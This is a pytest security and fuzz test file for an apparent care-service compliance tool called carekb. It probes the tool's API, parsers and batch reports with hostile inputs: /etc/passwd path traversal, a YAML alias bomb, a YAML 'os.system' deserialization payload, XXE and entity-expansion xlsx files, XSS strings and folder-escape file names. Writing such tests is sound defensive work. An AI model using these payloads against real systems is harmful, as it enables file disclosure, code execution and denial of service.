    J("gap", ('{"profile": {"office": {"service": "home-care"}, "met": ' + "[" * 900 + "]" * 900 + "}}").encode()),
    J("whatif", ('{"profile": {"office": {"service": "home-care"}}, "options": {"set": {"met": ' + "[" * 900 + "]" * 900
                 + "}}}").encode()),
    J("whatif", {"profile": GOOD, "options": {"set": ["met=" + "[" * 20000]}}),
    J("gap", {"profile": "/etc/passwd"}), J("gap", {"profile": "../../etc/passwd"}),
    J("gap", {"profile": "file:///etc/passwd"}), J("gap", {"profile": "examples/r7-after-school-day.yaml"}),
    J("gap", {"profile": {"office": "/etc/passwd"}}),
    J("gap", {"profile": {"office": {"service": "/etc/passwd", "region": "²"}}}),
    J("gap", {"profile": "office: {service: home-care, employees: " + "9" * 5000 + "}\n"}),
    J("gap", {"profile": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                         "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"}),
    J("gap", {"profile": "office: !!python/object/apply:os.system ['id']\n"}),
    J("gap", {"profile": GOOD, "options": {"as_of": "2025-13-01"}}),
    J("gap", {"profile": GOOD, "options": {"as_of": 20250701}}),
    J("gap", {"profile": GOOD, "options": {"target": "Ⅸ"}}),
    J("gap", {"profile": GOOD, "options": {"engine": "shell"}}),
    J("gap", {"profile": GOOD, "options": {"rates": "/etc/passwd"}}),
    J("gap", {"profile": GOOD, "options": {"lang": "../../etc"}}),
    J("gap", {"profile": GOOD, "options": {"reading": ["no-such"]}}),
    J("gap", {"profile": GOOD, "options": {"reading": [1, None]}}),
    J("gap", {"profile": GOOD, "options": {"no_pledge": "yes"}}),
    J("gap", {"profile": GOOD, "options": []}),
    J("explain", {"profile": GOOD, "options": {"tier": 2}}),
    J("explain", {"profile": GOOD}),
    J("whatif", {"profile": GOOD, "options": {"set": {"as_of": "2025-13-01"}}}),
    J("whatif", {"profile": GOOD, "options": {"set": ["noequals"]}}),
    J("whatif", {"profile": GOOD, "options": {"set": {"office.region": "²"}}}),
    J("whatif", {"profile": GOOD, "options": {"set": {"a.b.c.d.e.f": 1}}}),
    J("whatif", {"profile": GOOD, "options": {"add": [1, None, {}]}}),
    J("whatif", {"profile": GOOD, "options": {"remove": [None]}}),
    J("whatif", {"profile": GOOD, "options": {"set": [1]}}),
    J("whatif", {"profile": GOOD, "options": {"set": [None]}}),
    J("whatif", {"profile": GOOD, "options": {"set": {"1": {"x": 1}}}}),
    J("gap", b'{"profile": {"office": {"service": "home-care"}}, "options": {"as_of": "\\ud800"}}'),
    J("whatif", b'{"profile": {"office": {"service": "home-care"}}, "options": {"set": {"as_of": "\\udfff"}}}'),
    J("whatif", {"profile": GOOD, "options": {"add": ["workplace.²"]}}),
    J("whatif", {"profile": GOOD, "options": {"remove": ["zzz"]}}),
    J("whatif", {"profile": GOOD, "options": {"compare_periods": "R7,R99"}}),
    J("whatif", {"profile": GOOD, "options": {"compare_periods": [1, 2]}}),
    J("plan", {"profile": GOOD, "options": {"budget": -1}}),
    J("plan", {"profile": GOOD, "options": {"budget": 1.5}}),
    J("plan", b'{"profile": {"office": {"service": "home-care"}}, "options": {"budget": 1e309}}'),
    J("plan", ('{"profile": {"office": {"service": "home-care"}}, "options": {"budget": ' + "9" * 5000 + "}}").encode()),
    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": "abc"}}}),
    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": -1}}}),
    J("plan", {"profile": GOOD, "options": {"effort": {"workplace.²": 1}}}),
    J("plan", {"profile": GOOD, "options": {"effort": {"cp1.1": None}}}),
    J("gap", {"profile": GOOD, "overlays": [{"name": "x", "turtle": "@prefix : <x> . :a :b "}]}),
    J("gap", {"profile": GOOD, "overlays": [{"name": "", "turtle": ""}]}),
    J("gap", {"profile": GOOD, "overlays": [{"name": "x"}]}),
    J("gap", {"profile": GOOD, "overlays": "/etc/passwd"}),
    J("gap", {"profile": GOOD, "overlays": [{"name": "../../etc/passwd", "turtle": "/etc/passwd"}]}),
    J("gap", {"profile": GOOD, "overlays": [{"name": "../../etc/passwd", "turtle": OVERLAY_TRICKS}]}, codes=(200, 400)),
]


def _post(client, call, body):
    if isinstance(body, bytes):
        return client.post(f"/api/v1/{call}", content=body, headers={"content-type": "application/json"})
    return client.post(f"/api/v1/{call}", json=body)


def _api_clean(r, codes):
    assert r.status_code != 500 and r.status_code in codes, (r.status_code, r.text[:500])
    if r.status_code >= 400:
        body = r.json()
        assert isinstance(body.get("error"), str) and "\n" not in body["error"] and "Traceback" not in r.text
    assert SECRET not in r.text, "local file disclosed"


@pytest.mark.parametrize("case", API_CASES, ids=lambda c: f"{c['call']}:{str(c['body'])[:60]}")
def test_api_attack(api_client, case):
    _api_clean(_post(api_client, case["call"], case["body"]), case["codes"])


@pytest.mark.parametrize("path", [
    "/api/v1/services?period=R99", "/api/v1/services?scheme=../../etc", "/api/v1/services?period=%00",
    "/api/v1/requirements?as_of=2025-13-01", "/api/v1/requirements?scheme=nope", "/api/v1/requirements?lang=xx",
    "/api/v1/requirements?period=" + "R" * 10_000, "/api/v1/requirements?as_of=%ED%A0%80",
])
def test_api_get_attack(api_client, path):
    _api_clean(api_client.get(path), (400, 404, 422))


@pytest.mark.parametrize("name,builder,codes", [
    ("o.csv", lambda: bytes(range(256)) * 8, (400,)),
    ("o.csv", lambda: b"", (400,)),
    ("../../etc/passwd.csv", lambda: "事業所番号,サービス\n1,no-such\n".encode(), (200, 400)),
    ("o.xlsx", lambda: _xlsx(shared=LAUGHS), (400,)),
    ("o.xlsx", lambda: _xlsx(shared=XXE), (400,)),
    ("o.xlsx", lambda: b"PK\x03\x04junk", (400,)),
    ("o.xlsx", lambda: _xlsx(sheet_xml=b"<worksheet><sheetData><row><c r='A1'"), (400,)),
    ("o.xlsx", lambda: _xlsx(drop=("xl/workbook.xml",)), (400,)),
    ("o.exe", lambda: b"MZ", (400,)),
    ("o.csv", lambda: b"x" * 2_500_000, (413,)),
])
def test_api_batch_attack(api_client, name, builder, codes):
    r = api_client.post("/api/v1/batch", files={"file": (name, builder(), "application/octet-stream")})
    _api_clean(r, codes)


def test_api_batch_without_file_is_422(api_client):
    _api_clean(api_client.post("/api/v1/batch", data={"as_of": "2025-13-01"}), (422,))


# --------------------------------------------------------------------------- the parsers (hypothesis)

FUZZ = settings(max_examples=100, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
# the characters that matter to dates, numbers and names: digits of every script, eras, separators,
# circled/full-width forms, superscripts, surrogates and controls
TRICKY = st.lists(st.one_of(
    st.sampled_from(list("0123456789０１２３４５６７８９²³¹⁰₂٣০௫𝟘𝟙.-/年月日令和平成昭大正RHSMTrhsmt元,，万円千億ⅠⅡⅢⅣⅤⅰⅱⅲiIvVロイｲﾛ①②⑳㉑㉟"
                            "○×はいいえ +_:e\u3000\t\n\x00\x85\u2028\ufeff") + ["\ud800", "\udfff", "1e309", "nan",
                                                                                 "inf", "9" * 50, "R8.7.1", "令和8年"]),
    st.characters()), max_size=12).map("".join)
VALUES = st.one_of(TRICKY, st.integers(-10**40, 10**40), st.floats(allow_nan=True, allow_infinity=True), st.none(),
                   st.booleans(), st.dates(), st.lists(TRICKY, max_size=3), st.dictionaries(TRICKY, TRICKY, max_size=2))


def _only_carekb_errors(fn, *args, **kw):
    try:
        fn(*args, **kw)
    except CarekbError as e:
        str(e).encode("utf-8")         # printable and sendable: no lone surrogate survives
        assert "\n" not in CarekbError.__str__(e)


@FUZZ
@given(VALUES)
def test_date_parser_raises_only_carekb_errors(value):
    from carekb.model.dates import parse_date
    _only_carekb_errors(parse_date, value, "f.yaml", "as_of")


@FUZZ
@given(VALUES)
def test_normaliser_raises_only_carekb_errors(value):
    import yaml

    from carekb.graph.kbload import load_kb
    from carekb.inputs import normalize as n
    kb = load_kb()
    tiers = kb.tiers["R8"]
    for fn, args in ((n.text, ()), (n.whole, ()), (n.money, ()), (n.yes_no, ()), (n.item_number, ()),
                     (n.item_numbers, ()), (n.history_tier, ((1, 2, 3),)), (n.check_strings, ())):
        _only_carekb_errors(fn, value, *args, source="f.yaml", where="k")
    if isinstance(value, str):
        for fn in (n.requirement, n.service, n.action):
            _only_carekb_errors(fn, kb, value, "f.yaml", "k")
        _only_carekb_errors(n.tier, value, tiers, "f.yaml", "k", all_tiers=tiers)
        try:   # its one caller (whatif --set) turns a YAMLError into the --set message
            _only_carekb_errors(n.yaml_value, value, "f.yaml", "k")
        except yaml.YAMLError:
            pass
        # (yaml_int/json_int are the parsers' hooks: they only ever see text the YAML/JSON grammar took as an int)
        _only_carekb_errors(n.check_size, value, "f.yaml")


PROFILE_KEYS = ["office", "as_of", "history", "met", "workplace", "effort", "pledged", "top_annual_wage",
                "collab_corp", "version", "staff"]
OFFICE_KEYS = ["id", "name", "service", "employees", "single_office_corp", "region", "monthly_units"]
PROFILES = st.fixed_dictionaries({"office": st.one_of(st.dictionaries(st.sampled_from(OFFICE_KEYS), VALUES, max_size=7)
                                                      .map(lambda d: {"service": "home-care", **d}), VALUES)},
                                  optional={k: VALUES for k in PROFILE_KEYS[1:]})


@FUZZ
@given(PROFILES, st.sampled_from(["yaml", "json"]))
def test_random_profiles_through_the_library_door(doc, form):
    """carekb.gap on random profile structures (as a dict, and as YAML/JSON text) raises CarekbError or answers."""
    import yaml

    import carekb
    from carekb.graph.kbload import load_kb
    kb = load_kb()
    _only_carekb_errors(carekb.gap, doc, kb=kb)
    try:
        text = json.dumps(doc, default=str) if form == "json" else yaml.safe_dump(doc, allow_unicode=True)
    except (ValueError, yaml.YAMLError, UnicodeEncodeError):
        return
    _only_carekb_errors(carekb.gap, text if "\n" in text else text + "\n", kb=kb)


def test_report_html_escapes_profile_text(tmp_path):
    prof = tmp_path / "xss.yaml"
    prof.write_text('office:\n  id: "<img src=x onerror=alert(1)>"\n  name: "</title><script>alert(1)</script>"\n'
                    "  service: home-care\n  employees: 5\nas_of: 2025-07-01\n", encoding="utf-8")
    out = tmp_path / "r.html"
    r = CliRunner().invoke(main, ["report", str(prof), "-o", str(out)])
    check_clean(r, (0,), "")
    html = out.read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html and "&lt;img src=x" in html


def test_batch_reports_stay_inside_their_folder(tmp_path):
    """Per-office reports are named from office ids/names: '../../x', '/tmp/x', 'CON', 300 characters
    and every character Windows refuses must all land inside --reports DIR."""
    import csv as csvmod
    rows = list(csvmod.reader((EX / "batch/offices.csv").open(encoding="utf-8")))[:4]
    rows[1][0], rows[1][1] = "../../escape", "../../escape-name"
    rows[2][0], rows[2][1] = str(tmp_path / "absolute"), "CON"
    rows[3][1] = 'a/b\\c:d*e?f"g<h>i|j' + "x" * 300
    src = tmp_path / "in" / "offices.csv"
    src.parent.mkdir()
    with src.open("w", encoding="utf-8", newline="") as f:
        csvmod.writer(f).writerows(rows)
    out = tmp_path / "a" / "b"
    (out / "rep").mkdir(parents=True)
    r = CliRunner().invoke(main, ["batch", str(src), "--out", str(out / "o.csv"), "--reports", str(out / "rep"), "-q"])
    if r.exit_code == 2 and "--reports" in r.stderr:
        pytest.skip("batch --reports not in this tree yet")
    check_clean(r, (0, 1), "")
    inside = {p for p in (out / "rep").rglob("*") if p.is_file()}
    everything = {p for p in tmp_path.rglob("*") if p.is_file()}
    assert everything - inside == {src, out / "o.csv", out / "o-actions.csv", out / "o-errors.csv"}
    assert len(inside) >= 3


CELL = st.one_of(TRICKY, st.sampled_from(["", "=1+1", "１２", "令和8年7月1日", "2025/7/1", "450万円", "①②", "はい", "×",
                                          "home-care", "放課後等デイサービス", "6級地", "cp1.1 cp1.2", "0112345678"]))


@settings(max_examples=25, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(CELL, min_size=8, max_size=8), min_size=1, max_size=6))
def test_random_batch_rows_are_all_accounted_for(tmp_path, rows):
    """Random cells under the real headers: exit 0 or 1, never a traceback, and every input row is either
    a summary row or an error row (no row lost), ids kept as text."""
    import csv as csvmod
    header = next(csvmod.reader((EX / "batch/offices.csv").open(encoding="utf-8")))[:8]
    folder = tmp_path / f"run{len(list(tmp_path.iterdir()))}"
    folder.mkdir()
    src = folder / "in.csv"
    clean = [[c.replace("\x00", "").replace("\r", " ").replace("\n", " ")
              .encode("utf-8", "surrogatepass").decode("utf-8", "replace") for c in row] for row in rows]
    with src.open("w", encoding="utf-8", newline="") as f:
        csvmod.writer(f).writerows([header, *clean])
    out = folder / "o.csv"
    r = CliRunner().invoke(main, ["batch", str(src), "--out", str(out), "-q", "--workers", "1"])
    check_clean(r, (0, 1, 2), "")
    if r.exit_code == 2:     # a file-level problem (say, a header cell turned blank): nothing written
        assert not out.exists()
        return
    data_rows = [row for row in clean if any(c.strip() for c in row) and not row[0].lstrip().startswith("#")]
    summary = list(csvmod.reader(out.open(encoding="utf-8-sig")))[1:]
    errors = list(csvmod.reader((folder / "o-errors.csv").open(encoding="utf-8-sig")))[1:]
    assert len(summary) + len(errors) == len(data_rows), (summary, errors, data_rows)


def test_api_overlays_leave_no_cache_file_and_bounded_memory(api_client, tmp_path, monkeypatch):
    """Each distinct overlay a client sends compiles a KB: none may be written to the disk cache, and the
    in-memory caches stay bounded (a client sending new overlays for hours must not fill disk or RAM)."""
    from carekb.app import api
    from carekb.graph import cache
    monkeypatch.setenv("CAREKB_CACHE_DIR", str(tmp_path / "cache"))
    turtle = '<https://example.org/x> <https://example.org/p> "1" .\n'
    r = _post(api_client, "tiers", {"profile": GOOD, "overlays": [{"name": "o", "turtle": turtle}]})
    assert r.status_code == 200, r.text[:300]
    assert not (tmp_path / "cache").exists() or not list((tmp_path / "cache").iterdir())
    for i in range(cache.MEMORY_ITEMS + 5):   # as many models as distinct overlays would compile
        cache.cached_build("attack-probe", f"v{i}", lambda: object(), use_cache=False)
    assert len(cache._memory) <= cache.MEMORY_ITEMS and len(api._overlays_by_version) <= 64


@pytest.mark.parametrize("answer", ['<a> <b> "unterminated .\n', "\x00\xff garbage\n",
                                    "<http://a/> <http://b/> <http://c/> .\n"])
def test_hostile_endpoint_answer_is_one_line(monkeypatch, answer):
    """A remote endpoint (gap --endpoint) that sends broken or empty rules: one line, exit 2."""
    from carekb.app.sparql import remote
    monkeypatch.setattr(remote, "query_endpoint", lambda *a, **kw: answer)
    r = CliRunner().invoke(main, ["gap", P, "--endpoint", "http://127.0.0.1:1/"])
    check_clean(r, (2,), "")
